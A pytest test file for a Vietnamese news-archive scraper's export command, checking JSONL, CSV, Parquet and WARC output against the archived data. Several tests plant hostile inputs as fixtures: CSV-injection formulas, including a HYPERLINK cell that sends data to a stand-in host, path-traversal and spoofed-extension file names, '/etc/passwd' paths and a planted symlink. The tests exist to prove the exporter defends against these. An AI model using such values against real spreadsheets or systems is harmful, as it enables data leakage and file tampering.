"""``govscraper export --format jsonl|csv``: articles read back against the replica's ground truth and the archive.

One crawl of the clean replica; every export is read back with :mod:`json` or :mod:`csv` and compared with the
manifest (what the replica served) and with SQL written here, independently of the export's own queries.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
import sqlite3
import unicodedata
from datetime import UTC, datetime, timedelta, timezone

import pytest
from warcio.archiveiterator import ArchiveIterator

from govscraper.publish.export import export_articles, valid_fields
from govscraper.search.engine import Filters
from govscraper.search.query import SearchError, parse
from govscraper.text.fold import fold
from tests.helpers.cli import run_cli

LISTS = ("images", "attachments")
NAME = re.compile(r"[0-9a-f]{64}\.(jpg|png|gif|webp|bin)")
EXTENSIONS = {"image/jpeg": "jpg", "image/png": "png", "image/gif": "gif", "image/webp": "webp"}


@pytest.fixture(scope="module")
def archive(crawled_archive):
    crawled = crawled_archive("qni-replica")
    assert crawled.result.returncode == 0, crawled.result.stderr[-3000:]
    return crawled.db_path


@pytest.fixture(scope="module")
def manifest(clean_site):
    return clean_site.manifest()


@pytest.fixture(scope="module")
def conn(archive):
    connection = sqlite3.connect(archive)
    yield connection
    connection.close()


def export(archive, *args: str):
    return run_cli("export", "--db", str(archive), *args)


def jsonl(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines()]


def db_articles(conn) -> list[dict]:
    """Every article row as the archive holds it, by id (independent SQL)."""
    connection = sqlite3.connect(conn.execute("PRAGMA database_list").fetchone()[2])
    connection.row_factory = sqlite3.Row
    rows = [dict(row) for row in connection.execute("SELECT *, published_year FROM articles ORDER BY id")]
    connection.close()
    return rows


def db_images(conn, article_id: int) -> list[dict]:
    return [
        {"url": url, "caption": caption, "credit": credit, "role": role, "sha256": sha, "mime": mime,
         "width": width, "height": height}
        for url, caption, credit, role, sha, mime, width, height in conn.execute(
            "SELECT l.source_url, l.caption, l.credit, l.role, l.image_sha256, i.mime, i.width, i.height "
            "FROM article_images l LEFT JOIN images i ON i.sha256 = l.image_sha256 WHERE l.article_id = ? "
            "ORDER BY l.position",
            [article_id],
        )
    ]  # fmt: skip


def db_attachments(conn, article_id: int) -> list[dict]:
    return [
        {"url": url, "title": title, "sha256": sha, "filename": filename, "mime": mime, "size": size}
        for url, title, sha, filename, mime, size in conn.execute(
            "SELECT l.source_url, l.title, l.attachment_sha256, d.filename, d.mime, d.size "
            "FROM article_attachments l LEFT JOIN attachments d ON d.sha256 = l.attachment_sha256 "
            "WHERE l.article_id = ? ORDER BY l.position",
            [article_id],
        )
    ]


def test_jsonl_holds_every_article_and_field_as_archived(archive, conn, manifest, tmp_path):
    out = tmp_path / "all.jsonl"
    result = export(archive, "--format", "jsonl", "--output", str(out))
    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    assert f"{len(manifest['articles'])} articles" in result.stderr
    records = jsonl(out.read_text(encoding="utf-8"))
    rows = db_articles(conn)
    assert len(records) == len(rows) == len(manifest["articles"]) == 36
    columns = [row[1] for row in conn.execute("PRAGMA table_xinfo(articles)")]
    assert {"body_html", "published_year"} <= set(columns)
    for record, row in zip(records, rows, strict=True):
        assert list(record) == [*columns, *LISTS]
        assert {name: record[name] for name in columns} == row
        assert record["images"] == db_images(conn, row["id"])
        assert record["attachments"] == db_attachments(conn, row["id"])
    served = {article["title"]: article for article in manifest["articles"]}
    for record in records:
        truth = served[record["title"]]  # Vietnamese text intact: the title as served, NFC
        assert unicodedata.is_normalized("NFC", record["title"] + record["body"])
        assert record["body"] == "\n\n".join(truth["body"])
        assert record["published_at"] == truth["published"]
        assert record["published_year"] == int(truth["published"][:4])
        assert [image["caption"] for image in record["images"] if image["role"] == "body"] == [
            image["caption"] for image in truth["images"]
        ]
        assert [a["title"] for a in record["attachments"]] == [a["title"] for a in truth["attachments"]]
    assert any(record["images"] for record in records)
    assert any(record["attachments"] for record in records)
    # Standard output by default, byte for byte the same; the API writes the same records to a text stream.
    to_stdout = export(archive, "--format", "jsonl")
    assert to_stdout.returncode == 0
    assert to_stdout.stdout == out.read_text(encoding="utf-8")
    text = io.StringIO()
    assert export_articles(conn, text, "jsonl") == 36
    assert jsonl(text.getvalue()) == records


def test_csv_parses_with_a_header_and_the_same_values(archive, conn, tmp_path):
    out = tmp_path / "all.csv"
    result = export(archive, "--format", "csv", "--output", str(out))
    assert result.returncode == 0, result.stderr
    data = out.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")  # UTF-8 without a BOM
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert header == valid_fields(conn)
    expected = db_articles(conn)
    assert len(body) == len(expected) == 36
    for cells, row in zip(body, expected, strict=True):
        record = dict(zip(header, cells, strict=True))
        for name, value in row.items():
            assert record[name] == ("" if value is None else str(value)), name
        assert json.loads(record["images"]) == db_images(conn, row["id"])
        assert json.loads(record["attachments"]) == db_attachments(conn, row["id"])
    # Exactly what the csv module writes for the same values (SQLite makes the rows; Python's csv is the reference).
    reference = io.StringIO(newline="")
    writer = csv.writer(reference)
    writer.writerow(header)
    for row in expected:
        lists = [json.dumps(db(conn, row["id"]), ensure_ascii=False, separators=(",", ":"))
                 for db in (db_images, db_attachments)]  # fmt: skip
        writer.writerow([*(row[name] for name in header[:-2]), *lists])
    assert data.decode("utf-8") == reference.getvalue()


def test_csv_quoting_matches_the_csv_module_on_awkward_text(archive, tmp_path):
    copy = tmp_path / "awkward.db"
    shutil.copy(archive, copy)
    awkward = sqlite3.connect(copy)
    values = [
        ('Nói "không" với rác thải, nhựa', "", None),
        ("Dòng một\nDòng hai\r\nba", " cách đầu ", "a,b"),
        ("Không dấu phẩy", '"', "\r"),
    ]
    ids = [row[0] for row in awkward.execute("SELECT id FROM articles ORDER BY id LIMIT 3")]
    with awkward:
        for article_id, (title, sapo, author) in zip(ids, values, strict=True):
            awkward.execute("UPDATE articles SET title = ?, sapo = ?, author = ? WHERE id = ?",
                            [title, sapo, author, article_id])  # fmt: skip
        awkward.execute("UPDATE articles SET summary = '' WHERE id = ?", [ids[0]])
    for fields in (["id", "title", "sapo", "author", "views"], ["summary"], ["author"], ["attachments", "title"]):
        out = io.StringIO(newline="")
        # Raw cells: the quoting is what is compared here (the author "\r" would otherwise get its formula guard).
        export_articles(awkward, out, "csv", fields=fields, filters=None, csv_raw=True)
        records = jsonl(_jsonl(awkward, fields))
        reference = io.StringIO(newline="")
        writer = csv.writer(reference)
        writer.writerow(fields)
        for record in records:
            writer.writerow([json.dumps(record[f], ensure_ascii=False, separators=(",", ":")) if f in LISTS
                             else record[f] for f in fields])  # fmt: skip
        assert out.getvalue() == reference.getvalue(), fields
        assert [dict(zip(fields, cells, strict=True)) for cells in list(csv.reader(io.StringIO(out.getvalue())))[1:]]
    by_id = {record["id"]: record for record in jsonl(_jsonl(awkward, ["id", "title", "sapo", "author"]))}
    assert [by_id[i]["title"] for i in ids] == [v[0] for v in values]
    awkward.close()


def _copy(archive, tmp_path):
    copy = tmp_path / "copy.db"
    shutil.copy(archive, copy)
    return copy, sqlite3.connect(copy)


#: Cells a spreadsheet would run as formulas (OWASP, CSV injection), one per column, and a negative number.
FORMULAS = {
    "title": '=HYPERLINK("http://x.invalid/?q="&A1,"Bấm vào đây")',
    "sapo": "+84 912 345 678",
    "author": "-Nguyễn Văn A",
    "category": "@SUM(A1:A9)",
    "summary": "\tthụt đầu dòng",
    "source": "\rTheo báo Quảng Ngãi",
    "views": -5,
}
FORMULA_FIELDS = ["id", *FORMULAS, "body_html"]


def test_csv_cells_a_spreadsheet_would_run_get_a_quote_mark(archive, tmp_path):
    copy, conn = _copy(archive, tmp_path)
    (article_id,) = conn.execute("SELECT min(id) FROM articles").fetchone()
    with conn:
        assignments = ", ".join(f"{name} = ?" for name in FORMULAS)
        conn.execute(f"UPDATE articles SET {assignments}, body_html = '<p>=1+1</p>' WHERE id = ?",
                     [*FORMULAS.values(), article_id])  # fmt: skip
    conn.close()
    fields = ",".join(FORMULA_FIELDS)
    guarded = (
        f'{article_id},"\'=HYPERLINK(""http://x.invalid/?q=""&A1,""Bấm vào đây"")",\'+84 912 345 678,'
        "'-Nguyễn Văn A,'@SUM(A1:A9),'\tthụt đầu dòng,\"'\rTheo báo Quảng Ngãi\",-5,<p>=1+1</p>\r\n"
    )
    raw = (
        f'{article_id},"=HYPERLINK(""http://x.invalid/?q=""&A1,""Bấm vào đây"")",+84 912 345 678,'
        '-Nguyễn Văn A,@SUM(A1:A9),\tthụt đầu dòng,"\rTheo báo Quảng Ngãi",-5,<p>=1+1</p>\r\n'
    )

    def written(*options: str) -> str:
        out = tmp_path / "out.csv"
        result = export(copy, "--format", "csv", "--fields", fields, "--output", str(out), *options)
        assert result.returncode == 0, result.stderr
        return out.read_bytes().decode("utf-8")

    header = f"{fields}\r\n"
    assert written().startswith(header)
    assert header + guarded in written()  # the first article's row, made by SQLite
    assert raw not in written()
    images = str(tmp_path / "images")
    assert header + guarded in written("--images", images)  # the same through Python's csv module
    assert header + raw in written("--csv-raw")  # exactly as stored, on request
    assert header + raw in written("--csv-raw", "--images", images)
    # JSON lines are exact: no JSON reader runs a formula.
    records = jsonl(export(copy, "--format", "jsonl", "--fields", fields).stdout)
    assert records[0] == {"id": article_id, **FORMULAS, "body_html": "<p>=1+1</p>"}
    refused = export(copy, "--format", "jsonl", "--csv-raw")
    assert refused.returncode == 2
    assert "--csv-raw: only for --format csv" in refused.stderr


def test_exported_attachment_names_are_made_safe_also_from_an_older_archive(archive, tmp_path):
    """An archive stored before names were made safe holds them raw in attachments.filename: exports write them
    made safe all the same."""
    copy, conn = _copy(archive, tmp_path)
    (sha,) = conn.execute("SELECT attachment_sha256 FROM article_attachments WHERE attachment_sha256 IS NOT NULL "
                          "ORDER BY article_id, position LIMIT 1").fetchone()  # fmt: skip
    with conn:
        conn.execute("UPDATE attachments SET filename = ? WHERE sha256 = ?", ["../../..\\báo\u202egpj.exe\x07", sha])
    conn.close()
    names = {
        entry["sha256"]: entry["filename"]
        for record in jsonl(export(copy, "--format", "jsonl", "--fields", "attachments").stdout)
        for entry in record["attachments"]
    }
    assert names[sha] == "báogpj.exe"
    cells = export(copy, "--format", "csv", "--fields", "attachments").stdout
    assert "báogpj.exe" in cells
    assert "\u202e" not in cells
    assert "../" not in cells


def _jsonl(conn, fields) -> str:
    out = io.StringIO()
    export_articles(conn, out, "jsonl", fields=fields)
    return out.getvalue()


def test_fields_pick_and_order_the_columns(archive, conn, tmp_path):
    result = export(archive, "--format", "jsonl", "--fields", "title, published_at,images,id")
    assert result.returncode == 0, result.stderr
    records = jsonl(result.stdout)
    assert len(records) == 36
    assert all(list(record) == ["title", "published_at", "images", "id"] for record in records)
    by_id = {row["id"]: row for row in db_articles(conn)}
    for record in records:
        assert record["title"] == by_id[record["id"]]["title"]
        assert record["images"] == db_images(conn, record["id"])
    result = export(archive, "--format", "csv", "--fields", "id,published_year")
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert rows[0] == ["id", "published_year"]
    assert {int(a): int(y) for a, y in rows[1:]} == {i: int(r["published_at"][:4]) for i, r in by_id.items()}


def test_bad_field_is_one_line_listing_the_valid_ones(archive, tmp_path):
    out = tmp_path / "never.jsonl"
    result = export(archive, "--format", "csv", "--fields", "title,titel", "--output", str(out))
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1
    assert "unknown field titel" in lines[0]
    for name in ("body_html", "published_year", "attachments"):
        assert name in lines[0]
    assert not out.exists()


@pytest.mark.parametrize(
    "args",
    [
        ("--query", '"unclosed'),
        ("--query", "hội nghị AND"),
        ("--since", "2021-13"),
        ("--since", "yesterday"),
        ("--since", "2024", "--until", "2020"),
    ],
)
def test_bad_filter_is_one_line_and_status_1(archive, tmp_path, args):
    out = tmp_path / "never.jsonl"
    result = export(archive, "--format", "jsonl", *args, "--output", str(out))
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert result.stderr.startswith("Error: export: ")
    assert not out.exists()


def test_a_failed_export_leaves_no_file_and_keeps_an_earlier_one(archive, tmp_path):
    """An export that fails after its output was opened (an unknown portal, here) leaves nothing behind; a file of
    the same name from an earlier export is kept as it was."""
    for fmt in ("jsonl", "warc"):
        out = tmp_path / f"new.{fmt}"
        result = export(archive, "--format", fmt, "--portal", "qni-nowhere", "--output", str(out))
        assert result.returncode == 1, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr
        assert "qni-nowhere" in result.stderr
        assert not out.exists()
        earlier = tmp_path / f"earlier.{fmt}"
        earlier.write_bytes(b"an earlier export")
        export(archive, "--format", fmt, "--portal", "qni-nowhere", "--output", str(earlier))
        assert earlier.read_bytes() == b"an earlier export"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["earlier.jsonl", "earlier.warc"]  # no temporary


def test_filters_select_like_search(archive, manifest):
    truth = manifest["articles"]
    assert len(jsonl(export(archive, "--format", "jsonl", "--fields", "id", "--portal", "qni-replica").stdout)) == 36
    nothing = export(archive, "--format", "jsonl", "--portal", "qni-elsewhere")
    assert (nothing.returncode, nothing.stdout) == (1, "")
    assert "no portal 'qni-elsewhere' in this archive" in nothing.stderr
    days = sorted(article["published"][:10] for article in truth)
    month = days[len(days) // 2][:7]
    year = days[len(days) // 2][:4]
    cases = [
        (("--since", month, "--until", month), {a["title"] for a in truth if a["published"][:7] == month}),
        (("--since", year), {a["title"] for a in truth if a["published"][:4] >= year}),
        (("--until", days[2]), {a["title"] for a in truth if a["published"][:10] <= days[2]}),
    ]
    category = truth[0]["category_name"]
    cases.append(
        (("--category", fold(category).upper()), {a["title"] for a in truth if a["category_name"] == category})
    )
    for args, expected in cases:
        assert expected, args
        result = export(archive, "--format", "jsonl", "--fields", "title", *args)
        assert result.returncode == 0, result.stderr
        assert {record["title"] for record in jsonl(result.stdout)} == expected, args


def _indexed_words(conn) -> dict[int, str]:
    """Per article, the text the search index holds (title, sapo, body, author, captions, link titles, documents)."""
    texts = {}
    for article_id, title, sapo, body, author in conn.execute("SELECT id, title, sapo, body, author FROM articles"):
        parts = [title, sapo, body, author]
        parts += [c for (c,) in conn.execute("SELECT caption FROM article_images WHERE article_id = ?", [article_id])]
        parts += [
            part
            for row in conn.execute(
                "SELECT l.title, d.text FROM article_attachments l LEFT JOIN attachments d "
                "ON d.sha256 = l.attachment_sha256 WHERE l.article_id = ?",
                [article_id],
            )
            for part in row
        ]
        texts[article_id] = "\n".join(part for part in parts if part)
    return texts


def test_query_with_and_without_diacritics(archive, conn):
    texts = _indexed_words(conn)

    def words(text: str) -> set[str]:
        return set(re.findall(r"[^\W_]+", text))

    folded = {i for i, text in texts.items() if {"mo", "duc"} <= words(fold(text))}
    exact = {i for i, text in texts.items() if {"mộ", "đức"} <= words(text.lower())}
    assert exact
    assert exact <= folded
    for query, expected in (("mo duc", folded), ("Mộ Đức", exact)):
        result = export(archive, "--format", "jsonl", "--fields", "id,title", "--query", query)
        assert result.returncode == 0, result.stderr
        assert {record["id"] for record in jsonl(result.stdout)} == expected, query
    combined = export(archive, "--format", "jsonl", "--fields", "id", "--query", "mo duc", "--since", "2023")
    dated = {i for (i,) in conn.execute("SELECT id FROM articles WHERE published_at >= '2023'")}
    assert {record["id"] for record in jsonl(combined.stdout)} == folded & dated
    # The API takes the same query and filters.
    out = io.StringIO()
    count = export_articles(conn, out, "jsonl", query=parse("mo duc"), filters=Filters(since="2023"), fields=["id"])
    assert count == len(folded & dated)
    with pytest.raises(SearchError):
        export_articles(conn, io.StringIO(), "jsonl", filters=Filters(until="2021-02-30"))


def test_images_writes_each_distinct_image_once_named_by_its_hash(archive, conn, manifest, tmp_path):
    folder = tmp_path / "images"
    out = tmp_path / "with-images.jsonl"
    result = export(archive, "--format", "jsonl", "--images", str(folder), "--output", str(out))
    assert result.returncode == 0, result.stderr
    linked = dict(conn.execute(
        "SELECT DISTINCT l.image_sha256, i.mime FROM article_images l JOIN images i ON i.sha256 = l.image_sha256"
    ).fetchall())  # fmt: skip
    assert len(linked) == len(manifest["images"])  # every image the replica served, once
    files = {path.name: path for path in folder.iterdir()}
    assert set(files) == {f"{sha}.{EXTENSIONS.get(mime, 'bin')}" for sha, mime in linked.items()}
    for name, path in files.items():
        assert path.is_file()
        assert hashlib.sha256(path.read_bytes()).hexdigest() == name.split(".")[0]
    assert f"{len(linked)} image files written (0 already there)" in result.stderr
    for record in jsonl(out.read_text(encoding="utf-8")):
        for image in record["images"]:
            assert image["file"] == f"{image['sha256']}.{EXTENSIONS[image['mime']]}"
    again = export(archive, "--format", "csv", "--fields", "id", "--images", str(folder))
    assert f"0 image files written ({len(linked)} already there)" in again.stderr
    assert next(csv.reader(io.StringIO(again.stdout))) == ["id"]  # files wanted, field not: not in the CSV
    # A filtered export writes only its articles' images.
    month_folder = tmp_path / "one-article"
    first = conn.execute("SELECT id FROM articles WHERE id IN (SELECT article_id FROM article_images) LIMIT 1")
    (article_id,) = first.fetchone()
    (day,) = conn.execute("SELECT substr(published_at, 1, 10) FROM articles WHERE id = ?", [article_id]).fetchone()
    same_day = [i for (i,) in conn.execute("SELECT id FROM articles WHERE published_at LIKE ?", [day + "%"])]
    result = export(archive, "--format", "jsonl", "--fields", "id", "--since", day, "--until", day, "--images",
                    str(month_folder))  # fmt: skip
    expected = {sha for (sha,) in conn.execute(
        f"SELECT image_sha256 FROM article_images WHERE article_id IN ({','.join('?' * len(same_day))})", same_day
    )}  # fmt: skip
    assert {path.name.split(".")[0] for path in month_folder.iterdir()} == expected
    assert all(list(record) == ["id"] for record in jsonl(result.stdout))


def test_images_cannot_leave_the_folder(archive, tmp_path):
    """Hashes, names and URLs that look like paths, a corrupted blob and a planted link: all stays in DIR."""
    work = tmp_path / "work"
    work.mkdir()
    db_path = work / "archive.db"
    source = sqlite3.connect(archive)
    target = sqlite3.connect(db_path)
    source.backup(target)
    source.close()
    images = target.execute("SELECT DISTINCT image_sha256 FROM article_images ORDER BY image_sha256").fetchall()
    corrupted, strange_mime, planted = images[0][0], images[1][0], images[2][0]
    # The link turned evil holds none of the three images above, so each of them stays linked (article ids follow
    # crawl order, which varies from run to run: the last link may be the only one holding one of them).
    links = target.execute(
        "SELECT article_id, position FROM article_images WHERE image_sha256 NOT IN (?, ?, ?) "
        "ORDER BY article_id, position",
        [corrupted, strange_mime, planted],
    ).fetchall()
    evil = "../../escaped"
    with target:
        target.execute(
            "INSERT INTO images (sha256, bytes, mime, width, height, size, first_url, fetched_at) "
            "VALUES (?, ?, 'image/jpeg', 1, 1, 5, '/etc/passwd', '2025-01-01')",
            [evil, b"evil!"],
        )
        target.execute("UPDATE article_images SET image_sha256 = ?, source_url = '../../../etc/passwd' "
                       "WHERE article_id = ? AND position = ?", [evil, *links[-1]])  # fmt: skip
        target.execute("UPDATE images SET first_url = '/tmp/../../abs/evil.jpg' WHERE sha256 = ?", [strange_mime])
        target.execute("UPDATE images SET mime = '../../x/y' WHERE sha256 = ?", [strange_mime])
        (blob,) = target.execute("SELECT bytes FROM images WHERE sha256 = ?", [corrupted]).fetchone()
        target.execute("UPDATE images SET bytes = ? WHERE sha256 = ?", [b"\x00" + blob, corrupted])
    target.close()
    folder = work / "images"
    folder.mkdir()
    outside = work / "outside.jpg"
    outside.write_bytes(b"not to be touched")
    (folder / f"{planted}.jpg").symlink_to(outside)
    before = sorted(p.name for p in work.iterdir())

    result = export(db_path, "--format", "jsonl", "--fields", "id,images", "--images", str(folder))
    assert result.returncode == 0, result.stderr
    assert "2 refused" in result.stderr
    assert sorted(p.name for p in work.iterdir()) == before
    assert outside.read_bytes() == b"not to be touched"
    assert not (tmp_path / "escaped").exists()
    assert not (work.parent.parent / "escaped").exists()
    for path in folder.iterdir():
        assert NAME.fullmatch(path.name), path.name
        assert path.is_file()
        assert not path.is_symlink()
        assert hashlib.sha256(path.read_bytes()).hexdigest() == path.name.split(".")[0]
    assert (folder / f"{strange_mime}.bin").is_file()
    assert not list(folder.glob(f"{corrupted}.*"))
    files = {image["sha256"]: image["file"] for record in jsonl(result.stdout) for image in record["images"]}
    assert files[evil] is None
    assert files[corrupted] is None
    assert files[planted] == f"{planted}.jpg"
    assert files[strange_mime] == f"{strange_mime}.bin"
    assert not list(folder.glob(".export-*"))


def test_api_streams_with_any_row_factory_and_binary_streams(archive):
    connection = sqlite3.connect(archive)
    connection.row_factory = sqlite3.Row
    text = io.StringIO()
    assert export_articles(connection, text, "jsonl") == 36
    binary = io.BytesIO()
    assert export_articles(connection, binary, "jsonl") == 36
    assert binary.getvalue() == text.getvalue().encode("utf-8")
    text_csv, binary_csv = io.StringIO(newline=""), io.BytesIO()
    export_articles(connection, text_csv, "csv", fields=["id", "title", "images"])
    export_articles(connection, binary_csv, "csv", fields=["id", "title", "images"])
    assert binary_csv.getvalue() == text_csv.getvalue().encode("utf-8")
    with pytest.raises(ValueError, match="format"):
        export_articles(connection, io.StringIO(), "xml")
    connection.close()


def test_warc_export_still_works_and_needs_one_portal(archive, tmp_path):
    out = tmp_path / "replica.warc.gz"
    result = export(archive, "--format", "warc", "--portal", "qni-replica", "--output", str(out))
    assert result.returncode == 0, result.stderr
    with out.open("rb") as stream:
        types = [record.rec_type for record in ArchiveIterator(stream, check_digests=True)]
    captures = sqlite3.connect(archive).execute("SELECT count(*) FROM captures").fetchone()[0]
    assert types[0] == "warcinfo"
    assert len(types) == 1 + 2 * captures
    for args in (
        (),
        ("--portal", "qni-replica", "--portal", "qni-faulty"),
        ("--portal", "qni-replica", "--since", "2021"),
    ):
        refused = export(archive, "--format", "warc", *args, "--output", str(tmp_path / "x.warc.gz"))
        assert refused.returncode == 2, args
        assert "Traceback" not in refused.stderr


# Parquet: typed columns for pandas, polars, DuckDB and R.


def stored_moment(text: str | None, zone: timezone) -> datetime | None:
    """The instant a stored ISO text names (a bare date: midnight in ``zone``), read here with the standard library."""
    if text is None:
        return None
    if re.fullmatch(r"\d{4}-\d{2}-\d{2}", text):
        year, month, day = map(int, text.split("-"))
        return datetime(year, month, day, tzinfo=zone)
    return datetime.fromisoformat(text)


def test_parquet_holds_every_article_with_its_types(archive, conn, tmp_path):
    import pyarrow.parquet as pq

    output = tmp_path / "articles.parquet"
    result = export(archive, "--format", "parquet", "--output", str(output))
    assert result.returncode == 0, result.stderr
    table = pq.read_table(output)
    assert str(table.schema.field("published_at").type) in ("timestamp[s, tz=+07:00]", "timestamp[ms, tz=+07:00]")
    assert str(table.schema.field("first_seen_at").type).endswith("tz=UTC]")
    assert str(table.schema.field("views").type) == "int64"
    rows = table.to_pylist()
    expected = db_articles(conn)
    assert [row["id"] for row in rows] == [row["id"] for row in expected]
    vietnam = timezone(timedelta(hours=7))
    for row, stored in zip(rows, expected, strict=True):
        assert row["published_at"] == stored_moment(stored["published_at"], vietnam)
        assert row["published_at"].utcoffset() == timedelta(hours=7)
        assert row["published_day_only"] == (
            len(stored["published_at"] or "") == 10 if stored["published_at"] else None
        )
        assert row["first_seen_at"] == stored_moment(stored["first_seen_at"], UTC)
        for name in ("title", "sapo", "body", "body_html", "url", "category", "author", "views", "published_year"):
            assert row[name] == stored[name], name
        images = conn.execute("SELECT source_url, caption, image_sha256 FROM article_images WHERE article_id = ? "
                              "ORDER BY position", [stored["id"]]).fetchall()  # fmt: skip
        assert [(i["url"], i["caption"], i["sha256"]) for i in row["images"]] == images
        attachments = conn.execute("SELECT l.source_url, d.size FROM article_attachments l LEFT JOIN attachments d "
                                   "ON d.sha256 = l.attachment_sha256 WHERE l.article_id = ? ORDER BY l.position",
                                   [stored["id"]]).fetchall()  # fmt: skip
        assert [(a["url"], a["size"]) for a in row["attachments"]] == attachments


def test_duckdb_reads_the_parquet_export_and_its_image_table(archive, conn, tmp_path):
    import duckdb

    output, folder = tmp_path / "moduc.parquet", tmp_path / "images"
    result = export(archive, "--format", "parquet", "--since", "2021", "--fields", "id,published_at,title,images",
                    "--images", str(folder), "--output", str(output))  # fmt: skip
    assert result.returncode == 0, result.stderr
    ids = [row[0] for row in conn.execute("SELECT id FROM articles WHERE published_at >= '2021' ORDER BY id")]
    found = duckdb.sql(f"SELECT id, len(images) FROM read_parquet('{output}') ORDER BY id").fetchall()
    assert [row[0] for row in found] == ids
    linked = dict(conn.execute(
        f"SELECT article_id, count(*) FROM article_images WHERE article_id IN ({','.join('?' * len(ids))}) "
        "GROUP BY article_id", ids).fetchall())  # fmt: skip
    assert {row[0]: row[1] for row in found} == {i: linked.get(i, 0) for i in ids}
    described = duckdb.sql(f"SELECT sha256, file, size FROM read_parquet('{folder / 'images.parquet'}')").fetchall()
    assert described
    assert {file for _, file, _ in described} == {path.name for path in folder.glob("*.*") if path.suffix != ".parquet"}
    for sha256, file, size in described:
        data = (folder / file).read_bytes()
        assert hashlib.sha256(data).hexdigest() == sha256
        assert len(data) == size


def test_parquet_needs_a_file_and_leaves_none_when_it_fails(archive, tmp_path):
    result = export(archive, "--format", "parquet")
    assert result.returncode == 1
    assert "parquet is a file format" in result.stderr
    output = tmp_path / "bad.parquet"
    result = export(archive, "--format", "parquet", "--since", "2021-13", "--output", str(output))
    assert result.returncode == 1
    assert not output.exists()
    assert list(tmp_path.iterdir()) == []
